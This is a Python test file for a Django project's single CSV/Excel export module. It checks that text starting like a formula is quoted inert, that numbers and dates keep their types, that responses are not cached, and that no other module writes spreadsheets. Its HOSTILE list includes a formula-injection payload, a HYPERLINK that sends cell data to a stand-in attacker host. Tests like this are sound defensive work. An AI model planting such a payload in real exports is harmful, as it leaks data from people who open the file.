"""The one writer of CSV and Excel files (core.exports): text that starts like a formula
is written inert, numbers and dates stay what they are, nothing is cached, and no other
module of ours writes such a file."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils.functional import lazystr
from openpyxl import load_workbook

from core import exports
from tests.test_architecture import ROOT, modules

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Lihat lampiran")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=1",
    "-",
]
HARMLESS = ["Cepat dan jelas.", "", "'sudah dikutip", " =1 (spasi dulu)", "1+1", "#N/A", "Rp 5.000"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_gets_a_quote(text):
    assert exports.cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text):
    assert exports.cell(text) == text


def test_numbers_dates_and_nothing_stay_what_they_are():
    for value in (0, -2, 3.5, -0.25, Decimal("-74.93"), True, date(2025, 6, 10)):
        assert exports.cell(value) == value and type(exports.cell(value)) is type(value)
    assert exports.cell(None) is None
    # An aware moment is written in WIB, without a zone (spreadsheets have none).
    written = exports.cell(datetime(2025, 6, 10, 3, 0, tzinfo=UTC))
    assert written.tzinfo is None and (written.date(), written.hour) == (date(2025, 6, 10), 10)
    # A lazy string (a translated label) is text too.
    assert exports.cell(lazystr("=Total")) == "'=Total"


def _book(response):
    return load_workbook(io.BytesIO(response.getvalue()))


def test_a_workbook_stores_hostile_text_as_text_and_numbers_as_numbers():
    rows = [["Teks", "Angka"], *[[text, -index] for index, text in enumerate(HOSTILE, start=1)]]
    rows += [["#N/A", Decimal("74.90")], ["nol\x00kontrol\x1b", date(2025, 6, 10)], [None, 2.5]]
    response = exports.xlsx_response([exports.Sheet("Uji", rows)], filename="uji.xlsx")
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Disposition"] == 'attachment; filename="uji.xlsx"'
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    sheet = _book(response)["Uji"]
    for index, text in enumerate(HOSTILE, start=2):
        written, number = sheet.cell(index, 1), sheet.cell(index, 2)
        # (XML reads a carriage return back as a line feed: the quote in front is what counts.)
        assert written.value == "'" + text.replace("\r", "\n") and written.data_type == "s"
        assert number.value == 1 - index and number.data_type == "n"
    last = len(HOSTILE) + 2
    assert (sheet.cell(last, 1).value, sheet.cell(last, 1).data_type) == ("#N/A", "s")  # not an error value
    assert sheet.cell(last, 2).value == 74.9 and sheet.cell(last, 2).number_format == "0.00"
    assert sheet.cell(last + 1, 1).value == "nolkontrol"  # what XML cannot hold is dropped, not a 500
    assert sheet.cell(last + 1, 2).value.date() == date(2025, 6, 10) and sheet.cell(last + 1, 2).is_date
    assert sheet.cell(last + 2, 1).value is None and sheet.cell(last + 2, 2).value == 2.5
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_a_csv_file_quotes_hostile_text_and_keeps_numbers():
    rows = [["Teks", "Angka"], *[[text, -index] for index, text in enumerate(HOSTILE, start=1)], [None, Decimal("3.50")]]
    response = exports.csv_response(rows, filename="uji.csv")
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Disposition"] == 'attachment; filename="uji.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = response.getvalue().decode("utf-8")
    assert body.startswith("\ufeff")
    parsed = list(csv.reader(io.StringIO(body[1:], newline="")))
    assert parsed[1:-1] == [["'" + text, str(-index)] for index, text in enumerate(HOSTILE, start=1)]
    assert parsed[-1] == ["", "3.50"]


def test_a_file_name_outside_ascii_is_sent_the_standard_way():
    response = exports.csv_response([], filename="ikm-triwulan-ü.csv")
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''ikm-triwulan-%C3%BC.csv"


# What writes a spreadsheet: these modules, and these content types in a response.
WRITERS = {"csv", "openpyxl", "xlsxwriter", "xlwt", "pyexcel", "tablib", "pandas"}
CONTENT_TYPES = ("text/csv", "spreadsheetml")
# files.checks names the XLSX type to recognise an *uploaded* workbook; it writes none.
READS_ONLY = {"files.checks": "spreadsheetml"}


def _imported(tree: ast.AST) -> set[str]:
    found = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            found.add(node.module.split(".")[0])
    return found


def test_no_module_but_core_exports_writes_csv_or_excel():
    """'One writer' stays true: a new export must go through core.exports (or change
    this test, with a reason)."""
    offenders = []
    for name, path in modules().items():
        if name == "core.exports":
            continue
        source = path.read_text(encoding="utf-8")
        for writer in sorted(_imported(ast.parse(source)) & WRITERS):
            offenders.append(f"{path.relative_to(ROOT)} imports {writer}")
        for content_type in CONTENT_TYPES:
            if content_type in source and READS_ONLY.get(name) != content_type:
                offenders.append(f"{path.relative_to(ROOT)} names {content_type}")
    assert not offenders, offenders
    assert "core.exports" in modules() and {"csv", "openpyxl"} <= _imported(ast.parse(modules()["core.exports"].read_text()))
